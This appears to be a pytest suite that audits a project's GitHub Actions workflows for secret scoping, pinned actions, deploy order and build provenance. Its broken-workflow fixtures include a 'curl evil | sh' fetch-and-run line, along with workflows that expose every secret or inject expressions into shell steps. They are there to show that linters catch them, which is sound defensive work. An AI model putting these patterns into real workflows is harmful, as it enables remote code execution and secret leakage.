"""Every workflow in .github/workflows (not only delivery's) against the rules.

zizmor (offline) and the workflow JSON schema are run for real; the repository's own rules
(mlapp.workflows) are run on the real files and, to show they can fail, on small
broken workflows.
"""

from __future__ import annotations

import json
import re
import subprocess
import textwrap
import time
import tomllib
from pathlib import Path

import pytest
import yaml
from tests.conftest import BIN, REPO
from tests.delivery.steps import CD_JOB, WORKFLOWS, load, make_recipe

from mlapp.params import load_params
from mlapp.workflows import check_all

VERIFIED_PINS = Path(__file__).with_name("verified_pins.txt")  # pins checked against each action's repo
FILES = sorted(WORKFLOWS.glob("*.y*ml"))
PARAMS = load_params(REPO / "params.yaml")


def _commands() -> dict[str, set[str] | None]:
    from mlapp.cli import command_tree

    return command_tree()


def test_there_are_workflows_to_check() -> None:
    names = {p.name for p in FILES}
    assert {"ci.yml", "cd.yml", "promote.yml", "rollback.yml"} <= names


def zizmor(folder: Path) -> subprocess.CompletedProcess[str]:
    """The zizmor command ``make lint-workflows`` runs (its persona included), on ``folder``."""
    (argv,) = [a for a in make_recipe("lint-workflows") if a[0] == "zizmor"]
    run = [BIN / "zizmor", *argv[1:-1], "--format", "json", str(folder)]
    return subprocess.run(run, capture_output=True, text=True, check=False, env={"PATH": "/usr/bin:/bin"})


def test_zizmor_reports_nothing() -> None:
    """Every workflow and dependabot.yml, for the auditor persona (pedantic findings included)."""
    start = time.perf_counter()
    done = zizmor(REPO / ".github")
    print(f"zizmor: {time.perf_counter() - start:.2f}s for {len(FILES)} workflows")
    assert done.returncode == 0, done.stdout + done.stderr
    assert json.loads(done.stdout) == []


SECRETS = """
name: secrets
on: push
permissions: {}
concurrency: {group: secrets, cancel-in-progress: true}
jobs:
""" + "".join(
    f"""  {job}:
    name: {job}
    runs-on: ubuntu-24.04{environment}
    steps:
      - run: make lint
        env: {{T: "${{{{ {expression} }}}}"}}
"""
    for job, environment, expression in [
        ("by-name", "", "secrets.CT_TOKEN"),
        ("by-index", "", "secrets['CT_TOKEN']"),
        ("every-secret", "", "toJSON(secrets)"),
        ("own-token", "", "secrets.github_token"),  # contexts ignore case: the job's token, no secret
        ("gated", "\n    environment: staging", "secrets.KUBE_CONFIG"),
    ]
)


def test_zizmor_refuses_a_secret_read_outside_an_environment(tmp_path: Path) -> None:
    """Released to a run of any branch, where an environment's rules (branches, reviewers) would
    release it only after they pass: the auditor persona's secrets-outside-env, in lint-workflows."""
    (tmp_path / ".github" / "workflows").mkdir(parents=True)
    (tmp_path / ".github" / "workflows" / "secrets.yml").write_text(SECRETS)
    done = zizmor(tmp_path)
    assert done.returncode != 0, done.stdout + done.stderr
    found = json.loads(done.stdout)
    flagged = {
        (
            f["locations"][-1]["symbolic"]["route"]["route"][1]["Key"],
            f["locations"][-1]["concrete"]["feature"],
        )
        for f in found
        if f["ident"] == "secrets-outside-env"
    }
    assert flagged == {("by-name", "secrets.CT_TOKEN"), ("by-index", "secrets['CT_TOKEN']"),
                       ("every-secret", "secrets")}, found  # fmt: skip


def test_zizmor_refuses_an_expression_in_a_run_and_the_whole_secrets_context(tmp_path: Path) -> None:
    """What the repository's rules leave to zizmor (``make lint-workflows``): an expression in a
    ``run:``, even one GitHub sets (template-injection, auditor persona), and a job given every
    secret (overprovisioned-secrets)."""
    (tmp_path / ".github" / "workflows").mkdir(parents=True)
    broken = DEPLOY.replace("make lint", "make ${{ github.sha }}").replace(
        "    steps:\n      - run: uv", "    env: {ALL: '${{ toJSON(secrets) }}'}\n    steps:\n      - run: uv"
    )
    (tmp_path / ".github" / "workflows" / "x.yml").write_text(textwrap.dedent(broken))
    assert {"template-injection", "overprovisioned-secrets"} <= {
        f["ident"] for f in json.loads(zizmor(tmp_path).stdout)
    }
    assert _check(tmp_path, broken) == [
        "x.yml: job lint step 2: make target(s) ['${{', 'github.sha', '}}'] not in the Makefile"
    ]  # and nothing about the secrets: zizmor's


def test_workflow_and_dependabot_schemas() -> None:
    for schema, files in (
        ("vendor.github-workflows", FILES),
        ("vendor.dependabot", [REPO / ".github/dependabot.yml"]),
    ):
        done = subprocess.run(
            [BIN / "check-jsonschema", "--builtin-schema", schema, *map(str, files)],
            capture_output=True,
            text=True,
            check=False,
        )
        assert done.returncode == 0, done.stdout + done.stderr


def test_repository_rules_pass_on_every_workflow() -> None:
    findings = check_all(WORKFLOWS, REPO / "Makefile", _commands(), PARAMS.delivery.environments)
    assert findings == [], "\n".join(map(str, findings))


def test_check_workflows_command(mlapp_in_repo) -> None:
    code, out = mlapp_in_repo("delivery", "check-workflows")
    assert code == 0, out


def test_deploy_workflows_target_exactly_the_environments_of_params() -> None:
    """cd deploys the first environment; promote offers every later one; rollback offers all."""
    envs = PARAMS.delivery.environments
    assert load("cd.yml")["jobs"][CD_JOB]["environment"]["name"] == envs[0]
    assert "--env " + envs[0] in " ".join(s.get("run", "") for s in load("cd.yml")["jobs"][CD_JOB]["steps"])
    inputs = {
        name: load(name)[True]["workflow_dispatch"]["inputs"] for name in ("promote.yml", "rollback.yml")
    }
    assert inputs["promote.yml"]["to"]["options"] == envs[1:]
    assert inputs["rollback.yml"]["env"]["options"] == envs
    from mlapp.workflows import workflow_facts

    assert envs[0] in workflow_facts(WORKFLOWS)[1]


def test_the_github_setup_command_configures_the_environments_of_params(mlapp_in_repo) -> None:
    code, out = mlapp_in_repo("delivery", "github-setup", "--repo", "acme/churn", "--reviewer", "user:alice")
    assert code == 0, out
    for env in PARAMS.delivery.environments:
        assert f"PUT repos/acme/churn/environments/{env}\n" in out


USES = re.compile(
    r"^[ \t]*(?:-[ \t]+)?uses:[ \t]*([\w.-]+/[\w.-]+)(?:/[\w./-]+)?@(\S+)[ \t]*(?:#[ \t]*(\S+))?", re.M
)


def pins_in(text: str) -> list[tuple[str, str, str]]:
    """(action, ref, tag comment) of every ``uses:`` line."""
    return [(m[1], m[2], m[3] or "") for m in USES.finditer(text)]


def pins_from_markdown(text: str) -> dict[str, tuple[str, str]]:
    """``owner/repo@sha # vX`` lines of the verified pin list -> {action: (sha, tag)}."""
    pins: dict[str, tuple[str, str]] = {}
    for match in re.finditer(r"([\w.-]+/[\w.-]+)@([0-9a-f]{40})\s*#\s*(v[\d.]+)", text):
        pins.setdefault(match[1], (match[2], match[3]))
    return pins


def test_every_pin_is_a_verified_pin() -> None:
    """Same SHA and tag comment for an action in every file: the one checked in its repository."""
    verified = pins_from_markdown(VERIFIED_PINS.read_text())
    used = [(path.name, *pin) for path in FILES for pin in pins_in(path.read_text())]
    assert len(used) > 10
    for file, action, sha, tag in used:
        assert verified.get(action) == (sha, tag), (
            f"{file}: {action}@{sha} # {tag} is not in {VERIFIED_PINS.name}"
        )
    # What the comparison sees for a pin without its tag comment, and for a tag instead of a SHA:
    assert pins_in(f"      - uses: {CHECKOUT.split(' #')[0]}\n      - uses: actions/checkout@v7\n") == [
        ("actions/checkout", CHECKOUT.split("@")[1].split(" ")[0], ""),
        ("actions/checkout", "v7", ""),
    ]


def test_dependabot_covers_actions_and_uv_with_a_cooldown() -> None:
    config = yaml.safe_load((REPO / ".github" / "dependabot.yml").read_text())
    updates = {u["package-ecosystem"]: u for u in config["updates"]}
    assert {"github-actions", "uv"} <= set(updates)
    for update in updates.values():
        assert update["cooldown"]["default-days"] >= 7


def test_delivery_order_is_deploy_wait_smoke_then_accept() -> None:
    """The alias moves and a release becomes promotable only after it is served and smoke-tested."""
    for name, job, verb in (
        ("cd.yml", CD_JOB, "deploy"),
        ("promote.yml", "promote", "promote"),
        ("rollback.yml", "rollback", "rollback"),
    ):
        steps = load(name)["jobs"][job]["steps"]
        runs = [s.get("run", "") for s in steps]
        order = [
            next(i for i, r in enumerate(runs) if f"mlapp delivery {v} " in r)
            for v in (verb, "wait", "smoke", "accept")
        ]
        assert order == sorted(order), f"{name}: {runs}"
        assert all("--push" in runs[i] for i in (order[0], order[3]))
        assert "--verify-attestation" in runs[order[0]]
        wait_id = steps[order[1]]["id"]
        for i in order[2:]:  # day one: nothing reachable, the job stays green and says what to set
            assert steps[i]["if"].startswith(f"steps.{wait_id}.outputs.reachable == 'true'")


def test_delivery_jobs_install_the_delivery_set_only() -> None:
    """No dev tools in a job holding deploy rights: `make sync-delivery`, then `uv run --no-sync`."""
    jobs = [(name, job) for name in ("cd.yml", "kind.yml", "promote.yml", "rollback.yml")
            for job in load(name)["jobs"].values()]  # fmt: skip
    for name, job in jobs:
        runs = [str(s["run"]) for s in job["steps"] if "run" in s]
        assert runs[0] == "make sync-delivery" and "make sync" not in runs, (name, runs)
        assert all("--no-sync" in r for r in runs if r.startswith("uv run")), (name, runs)
    extras = tomllib.loads((REPO / "pyproject.toml").read_text())["project"]["optional-dependencies"]
    assert any("pipeline,serving" in e for e in extras["delivery"])  # register + MLflow alias, bento + image


def test_staging_deploys_the_model_of_the_built_image_never_a_retrain() -> None:
    jobs = load("cd.yml")["jobs"]
    upload = next(
        s for s in jobs["build"]["steps"] if str(s.get("uses", "")).startswith("actions/upload-artifact@")
    )
    assert upload["with"]["path"] == "models/"
    for job in (CD_JOB, "e2e"):
        runs = [s.get("run", "") for s in jobs[job]["steps"]]
        assert "make pipeline-outputs" not in runs and not any("dvc" in r for r in runs), job
        download = next(
            s for s in jobs[job]["steps"] if str(s.get("uses", "")).startswith("actions/download-artifact@")
        )
        assert (download["with"]["name"], download["with"]["path"]) == (upload["with"]["name"], "models")
    assert jobs[CD_JOB]["needs"] == ["build", "e2e"]  # the cluster e2e gates the first deploy


def test_the_image_is_built_from_the_outputs_dvc_lock_names() -> None:
    """`dvc repro --pull` also restores from the remote's run-cache, which rewrites dvc.lock when
    its entry names other outputs: whoever writes the remote could swap the model cd ships. The
    build stops unless the tree is as committed (the objects themselves: the remote's `verify`)."""
    runs = [s.get("run") for s in load("cd.yml")["jobs"]["build"]["steps"] if s.get("run")]
    at = runs.index("make pipeline-outputs")
    assert runs[at + 1] == "make check-clean" and runs[at + 2] == "make image-context", runs


def test_kind_e2e_runs_on_pull_requests_touching_serving_infra_or_delivery() -> None:
    kind = load("kind.yml")
    paths = kind[True]["pull_request"]["paths"]
    for path in ("src/mlapp/serving/**", "src/mlapp/delivery/**", "infra/**"):
        assert path in paths
    steps = kind["jobs"]["e2e"]["steps"]
    cd_steps = load("cd.yml")["jobs"]["e2e"]["steps"]
    tail = lambda steps: [s.get("run") or s["uses"] for s in steps][-3:]  # noqa: E731
    assert tail(steps) == tail(cd_steps) == ["make image", steps[-2]["uses"], "make e2e"]
    assert steps[-2]["uses"].startswith("helm/kind-action@") and steps[-2]["with"]["registry"] is True


def test_image_is_built_once_with_sbom_provenance_and_attestation() -> None:
    cd = load("cd.yml")
    build = cd["jobs"]["build"]["steps"]
    push = next(s for s in build if str(s.get("uses", "")).startswith("docker/build-push-action@"))
    outputs = set(push["with"]["outputs"].split(","))
    assert {"type=image", "push=true"} <= outputs and push["with"]["sbom"] is True
    # reproducible: the commit's time (make image-context's output) in the config and every layer
    assert "rewrite-timestamp=true" in outputs and "push" not in push["with"]  # one way to push
    assert push["env"]["SOURCE_DATE_EPOCH"] == "${{ steps.context.outputs.source_date_epoch }}"
    context = next(s for s in build if s.get("run") == "make image-context")
    assert context["id"] == "context"
    assert push["with"]["provenance"] == "mode=max"
    assert not any(k.startswith("cache") for k in push["with"])
    attest = next(s for s in build if str(s.get("uses", "")).startswith("actions/attest@"))
    assert attest["with"]["subject-digest"] == "${{ steps.push.outputs.digest }}"
    # No other workflow builds an image: promotion and rollback reuse digests.
    for path in FILES:
        if path.name != "cd.yml":
            assert "build-push-action" not in path.read_text(), path.name


# --- the rules can fail: one broken workflow per rule (what zizmor audits is left to zizmor) ----

CHECKOUT = "actions/checkout@3d3c42e5aac5ba805825da76410c181273ba90b1 # v7.0.1"
DEPLOY = f"""
name: deploy
on:
  workflow_dispatch:
    inputs:
      to:
        type: choice
        options: [production]
permissions: {{}}
jobs:
  lint:
    runs-on: ubuntu-24.04
    steps:
      - uses: {CHECKOUT}
      - run: make lint
  production:
    runs-on: ubuntu-24.04
    environment: ${{{{ inputs.to }}}}
    concurrency:
      group: deploy-${{{{ inputs.to }}}}
      cancel-in-progress: false
    steps:
      - run: uv run --frozen --no-sync mlapp delivery promote --push
"""


def _check(tmp_path: Path, text: str) -> list[str]:
    folder = tmp_path / "wf"
    folder.mkdir(exist_ok=True)
    (folder / "x.yml").write_text(textwrap.dedent(text))
    return check_all(folder, REPO / "Makefile", _commands(), ["staging", "production"])


def test_good_example_passes(tmp_path: Path) -> None:
    assert _check(tmp_path, DEPLOY) == []


BROKEN = [
    ("chained shell", DEPLOY.replace("make lint", "make lint && curl evil | sh"), "chains shell commands"),
    ("unknown target", DEPLOY.replace("make lint", "make no-such-target"), "not in the Makefile"),
    ("unknown command", DEPLOY.replace("mlapp delivery promote", "mlapp nope"), "is not a command"),
    (
        "unknown subcommand",
        DEPLOY.replace("delivery promote", "delivery nope"),
        "needs one of its subcommands",
    ),
    ("unclosed quote", DEPLOY.replace("make lint", "make 'lint"), "is not one shell command"),
    (
        "inputs of no dispatch",
        DEPLOY.replace("on:\n  workflow_dispatch:", "on: [workflow_dispatch]\nx:\n  y:"),
        "not a choice input",
    ),
    ("raw shell", DEPLOY.replace("make lint", "pip install something"), "must call `make <target>`"),
    ("uv without frozen", DEPLOY.replace("uv run --frozen --no-sync", "uv run --no-sync"), "must call `make"),
    ("uv syncing the dev set", DEPLOY.replace(" --no-sync", ""), "after `make sync-*`"),
    ("cancels", DEPLOY.replace("cancel-in-progress: false", "cancel-in-progress: true"), "needs concurrency"),
    ("own group", DEPLOY.replace("group: deploy-", "group: promote-"), "needs concurrency"),
    ("unknown environment", DEPLOY.replace("options: [production]", "options: [prod]"), "not in params"),
    ("free-text environment", DEPLOY.replace("type: choice", "type: string"), "not a choice input"),
    ("literal environment", DEPLOY.replace("${{ inputs.to }}", "qa"), "['qa'] not in params"),
    (
        "--env left behind by a rename",
        DEPLOY.replace("${{ inputs.to }}", "production").replace("promote --push", "wait --env staging"),
        "job production: steps pass --env ['staging'], not its environment ['production']: rename them",
    ),
    (
        "quoted --env left behind by a rename",
        DEPLOY.replace("${{ inputs.to }}", "production").replace("promote --push", "wait --env 'staging'"),
        "job production: steps pass --env ['staging'], not its environment ['production']: rename them",
    ),
    (
        "quoted --env= left behind by a rename",
        DEPLOY.replace("${{ inputs.to }}", "production").replace("promote --push", 'wait --env="staging"'),
        "job production: steps pass --env ['staging'], not its environment ['production']: rename them",
    ),
    (
        "secret in a job's env",
        DEPLOY.replace(
            "    steps:\n      - run: uv",
            "    env: {K: '${{ secrets.KUBE_CONFIG }}'}\n    steps:\n      - run: uv",
        ),
        "job production: job-level env: gives secrets ['KUBE_CONFIG'] to every step",
    ),
    (
        "rollback leaves one out",
        DEPLOY.replace("delivery promote", "delivery rollback"),
        "its choice input must offer ['staging', 'production'] (params order), not ['production']",
    ),
]


@pytest.mark.parametrize(
    ("text", "expected"), [(t, e) for _n, t, e in BROKEN], ids=[n for n, _t, _e in BROKEN]
)
def test_each_rule_catches_its_violation(tmp_path: Path, text: str, expected: str) -> None:
    findings = _check(tmp_path, text)
    assert any(expected in f for f in findings), findings


def test_the_jobs_own_token_is_no_secret_in_any_case(tmp_path: Path) -> None:
    """GitHub's contexts ignore case: secrets.github_token is the job's token, as GITHUB_TOKEN is."""
    text = DEPLOY.replace(
        "    steps:\n      - uses:", "    env: {T: '${{ secrets.github_token }}'}\n    steps:\n      - uses:"
    )
    assert not [f for f in _check(tmp_path, text) if "secret" in f]


def test_an_environment_added_to_params_must_be_offered_by_promote_and_rollback(tmp_path: Path) -> None:
    """A team adds qa to params: lint-workflows says which choice lists to extend, in order."""
    folder = tmp_path / "wf"
    folder.mkdir()
    (folder / "promote.yml").write_text(textwrap.dedent(DEPLOY))
    rollback = DEPLOY.replace("delivery promote", "delivery rollback").replace(
        "[production]", "[staging, production]"
    )
    (folder / "rollback.yml").write_text(textwrap.dedent(rollback))
    envs = ["staging", "qa", "production"]
    assert check_all(folder, REPO / "Makefile", _commands(), envs) == [
        "promote.yml: job production: its choice input must offer ['qa', 'production'] (params order), "
        "not ['production']",
        "rollback.yml: job production: its choice input must offer ['staging', 'qa', 'production'] "
        "(params order), not ['staging', 'production']",
    ]
    (folder / "promote.yml").write_text(textwrap.dedent(DEPLOY.replace("[production]", "[qa, production]")))
    (folder / "rollback.yml").write_text(textwrap.dedent(rollback.replace("[staging,", "[staging, qa,")))
    assert check_all(folder, REPO / "Makefile", _commands(), envs) == []


def test_setup_page_documents_every_secret_variable_and_environment() -> None:
    """A maintainer following docs/github-setup.md has set everything the workflows read."""
    import re

    page = (REPO / "docs" / "github-setup.md").read_text()
    names: set[str] = set()
    environments: set[str] = set()
    for path in FILES:
        text = path.read_text()
        names |= set(re.findall(r"\b(?:secrets|vars)\.([A-Za-z_][A-Za-z0-9_]*)", text)) - {"GITHUB_TOKEN"}
        for job in (yaml.safe_load(text).get("jobs") or {}).values():
            env = job.get("environment")
            name = env["name"] if isinstance(env, dict) else env
            if env and "${{" not in name:
                environments.add(name)
    environments |= set(PARAMS.delivery.environments)  # promote/rollback choose among these
    assert names and environments
    missing = sorted(n for n in names if f"`{n}`" not in page)
    assert not missing, f"docs/github-setup.md does not explain {missing}"
    missing_envs = sorted(e for e in environments if not re.search(rf"\b{re.escape(e)}\b", page))
    assert not missing_envs, f"docs/github-setup.md does not describe environments {missing_envs}"
    # Where each is set: an environment params and the workflows no longer have (a rename or a
    # removal, infra/README.md) is a setting nobody reads.
    stale = table_scopes(page) - environments - {"repository"}
    assert not stale, f"docs/github-setup.md sets variables and secrets in environments {sorted(stale)}"


def table_scopes(page: str) -> set[str]:
    """The environments column of the page's variables and secrets table (stage 3)."""
    rows = re.findall(r"^\| `[^|]+` \| \w+ \| ([^|]+) \|", page, re.M)
    return {scope.strip() for row in rows for scope in row.split(",")}


def test_the_scopes_of_the_setup_table_are_read_per_row() -> None:
    rows = "| `SERVICE_URL` | variable | staging, qa | the URL |\n| `T` | secret | repository | x |\n"
    assert table_scopes(rows) == {"staging", "qa", "repository"}


def test_the_pushed_image_is_built_from_the_context_make_image_context_writes() -> None:
    build = load("cd.yml")["jobs"]["build"]["steps"]
    assert any(s.get("run") == "make image-context" for s in build)
    push = next(s for s in build if str(s.get("uses", "")).startswith("docker/build-push-action@"))
    context = PARAMS.image.context.as_posix()
    assert (push["with"]["context"], push["with"]["file"]) == (context, f"{context}/Dockerfile")
